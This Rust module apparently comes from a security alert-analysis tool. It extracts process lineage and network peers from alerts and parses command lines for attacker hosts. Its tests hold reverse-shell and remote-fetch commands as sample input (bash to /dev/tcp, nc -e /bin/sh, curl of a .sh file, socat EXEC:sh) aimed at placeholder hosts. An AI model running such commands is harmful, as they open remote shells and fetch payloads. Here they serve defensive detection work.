//! What one alert tells of an attack: its processes, where it went, what it named.

use super::Finding;
use crate::hub;
use crate::print::{Ancestor, Print, lineage};
use record::{Activity, Alert, Event, NetOp, Severity};
use std::collections::BTreeMap;
use std::net::IpAddr;

/// Most ids of evidence of one part.
pub(crate) const EVIDENCE: usize = 32;

/// A place on the network.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) struct Peer {
    /// Address or domain as text.
    pub value: String,
    pub ip: Option<IpAddr>,
    pub port: u16,
}

/// An alert taken apart for the chain.
pub(crate) struct Act<'m> {
    pub alert: &'m Alert,
    pub event: Option<Event>,
    pub print: Print,
    /// The process and its ancestors, nearest first.
    pub lineage: Vec<Ancestor>,
    /// Where its process went, by its connection, its command line or what was asked for.
    pub peers: Vec<Peer>,
    /// Kind and value of a confirmed indicator.
    pub indicator: Option<(String, String)>,
}

impl<'m> Act<'m> {
    pub fn of(finding: &'m Finding, owners: &BTreeMap<IpAddr, String>) -> Act<'m> {
        let alert = &finding.alert;
        let event = alert.evidence.clone().unpack(0).ok().and_then(|events| events.into_iter().next());
        let print = Print::of(&alert.id, alert, &finding.host, event.as_ref());
        let lineage = event.as_ref().and_then(|event| event.process.as_deref()).map(lineage).unwrap_or_default();
        let field = |name: &str| alert.matches.iter().find(|one| one.field == name).map(|one| one.value.clone());
        let indicator = field("kind").zip(field("indicator"));
        let mut peers = event.as_ref().map(peers).unwrap_or_default();
        if let Some((kind, value)) = &indicator
            && matches!(kind.as_str(), "ipv4" | "ipv6" | "ip" | "domain")
        {
            let ip = value.parse::<IpAddr>().ok();
            if !peers.iter().any(|peer| peer.value == *value || (ip.is_some() && peer.ip == ip)) {
                peers.push(Peer { value: value.clone(), ip, port: 0 });
            }
        }
        peers.retain(|peer| peer.ip.is_none_or(|ip| crate::sight::tells(ip) && !owners.contains_key(&ip)));
        Act { alert, event, print, lineage, peers, indicator }
    }

    /// Whether one of its techniques has this tactic.
    pub fn tactic(&self, tactic: &str) -> bool {
        self.alert.techniques.iter().any(|technique| technique.tactics.iter().any(|one| one == tactic))
    }

    /// Whether one of its techniques is this one or below it.
    pub fn technique(&self, id: &str) -> bool {
        let below = |one: &str| one == id || one.strip_prefix(id).is_some_and(|rest| rest.starts_with('.'));
        self.alert.techniques.iter().any(|technique| below(&technique.id))
    }

    /// The tactic that comes first in the matrix, empty when it has none.
    pub fn first_tactic(&self) -> String {
        let all = self.alert.techniques.iter().flat_map(|technique| &technique.tactics);
        all.min_by_key(|tactic| crate::rank(tactic)).cloned().unwrap_or_default()
    }
}

/// How sure an alert of this severity makes: severity is not certainty, but a rule that may be wrong says so by it.
pub(crate) fn confidence(severity: Severity) -> u8 {
    match severity {
        Severity::Critical => 90,
        Severity::High => 80,
        Severity::Medium => 60,
        Severity::Low => 40,
        _ => 25,
    }
}

/// Shells and interpreters that talk to the network only when somebody else speaks through them.
const SHELLS: &[&str] = &["ash", "bash", "dash", "ksh", "sh", "zsh"];

/// Whether a program is a shell, by path.
pub(crate) fn is_shell(path: &str) -> bool {
    SHELLS.contains(&path.rsplit('/').next().unwrap_or_default())
}

fn peers(event: &Event) -> Vec<Peer> {
    let mut found = Vec::new();
    match &event.activity {
        Activity::Net(net) if net.op() != NetOp::Accept => {
            if let Some(ip) = net.remote().map(|ip| ip.to_canonical()) {
                let port = u16::try_from(net.remote_port).unwrap_or(0);
                found.push(Peer { value: ip.to_string(), ip: Some(ip), port });
            }
        }
        Activity::Dns(dns) if !dns.name.is_empty() => {
            found.push(Peer { value: dns.name.clone(), ip: None, port: 0 });
        }
        Activity::Exec(_) => {
            let line = event.process.as_ref().map_or("", |proc| proc.info.cmd_line.as_str());
            found.extend(spoken(line));
        }
        _ => {}
    }
    found
}

/// A place that a command line names: `/dev/tcp/HOST/PORT`, or an address and a port as two words or one.
pub(crate) fn spoken(line: &str) -> Option<Peer> {
    for device in ["/dev/tcp/", "/dev/udp/"] {
        if let Some((_, rest)) = line.split_once(device) {
            let (host, rest) = rest.split_once('/')?;
            let port: String = rest.chars().take_while(char::is_ascii_digit).collect();
            let value = host.parse::<IpAddr>().map_or_else(|_| host.to_lowercase(), |ip| ip.to_canonical().to_string());
            let good = !value.is_empty() && value.len() <= 253;
            return good.then(|| Peer { ip: value.parse().ok(), value, port: port.parse().unwrap_or(0) });
        }
    }
    let bare = |word: &str| word.trim_matches(['"', '\'', '(', ')', ',', ';', '[', ']']).to_owned();
    let words: Vec<String> = line.split([' ', '/', '=', '@']).map(bare).take(256).collect();
    for (place, word) in words.iter().enumerate() {
        let (host, port) = match word.rsplit_once(':') {
            Some((host, port)) if !host.contains(':') => (host, port.parse::<u16>().ok()),
            _ => (word.as_str(), words.get(place + 1).and_then(|next| next.parse::<u16>().ok())),
        };
        if let (Ok(ip), true) = (host.parse::<IpAddr>(), host.contains(['.', ':']))
            && crate::sight::tells(ip)
        {
            let ip = ip.to_canonical();
            return Some(Peer { value: ip.to_string(), ip: Some(ip), port: port.unwrap_or(0) });
        }
    }
    None
}

/// Programs that serve others over the network, by name, and what they are for people.
const SERVICES: &[&str] = &[
    "apache2",
    "caddy",
    "catalina",
    "dotnet",
    "exim4",
    "gunicorn",
    "haproxy",
    "httpd",
    "java",
    "lighttpd",
    "mariadbd",
    "memcached",
    "mongod",
    "mysqld",
    "named",
    "nginx",
    "node",
    "php-cgi",
    "php-fpm",
    "postgres",
    "proftpd",
    "puma",
    "redis-server",
    "slapd",
    "smbd",
    "tomcat",
    "uwsgi",
    "vsftpd",
];
/// Programs through which a person opens what others send.
const APPLICATIONS: &[&str] = &[
    "chrome",
    "chromium",
    "evince",
    "evolution",
    "firefox",
    "firefox-esr",
    "libreoffice",
    "soffice.bin",
    "thunderbird",
];

/// What a process is to those outside.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Front {
    Service,
    Application,
}

/// Whether a process faces the outside, by the name of its executable (`php-fpm8.2` is `php-fpm`).
pub(crate) fn front(process: &record::Process) -> Option<Front> {
    let name = process.exe.path.rsplit('/').next().unwrap_or_default();
    let plain = name.trim_end_matches(|letter: char| letter.is_ascii_digit() || letter == '.' || letter == '-');
    let among = |list: &[&str]| list.contains(&name) || list.contains(&plain);
    match (among(SERVICES), among(APPLICATIONS)) {
        // A file of this name outside the system's directories is not the service.
        (true, _) if hub::in_system(&process.exe.path) => Some(Front::Service),
        (_, true) if hub::in_system(&process.exe.path) => Some(Front::Application),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn places_in_command_lines_are_read() {
        let cases = [
            ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", Some(("203.0.113.9", 4444))),
            ("bash -c 'exec 3<>/dev/tcp/c2.example.net/443'", Some(("c2.example.net", 443))),
            ("nc 203.0.113.9 4444 -e /bin/sh", Some(("203.0.113.9", 4444))),
            ("curl http://198.51.100.7:8080/x.sh", Some(("198.51.100.7", 8080))),
            ("socat TCP:203.0.113.5:99 EXEC:sh", None),
            ("python3 -m http.server 8000", None),
            ("tool --version 1.2.3.4", Some(("1.2.3.4", 0))),
            ("nc -l 127.0.0.1 80", None),
            ("/dev/tcp/", None),
        ];
        for (line, wanted) in cases {
            let found = spoken(line).map(|peer| (peer.value, peer.port));
            assert_eq!(found.as_ref().map(|(value, port)| (value.as_str(), *port)), wanted, "{line}");
        }
    }

    proptest::proptest! {
        #[test]
        fn no_line_breaks_it(line in ".{0,200}", tail in "(/dev/tcp/)?[a-z0-9./:]{0,40}") {
            let peer = spoken(&format!("{line}{tail}"));
            proptest::prop_assert!(peer.is_none_or(|peer| !peer.value.is_empty()));
        }
    }
}
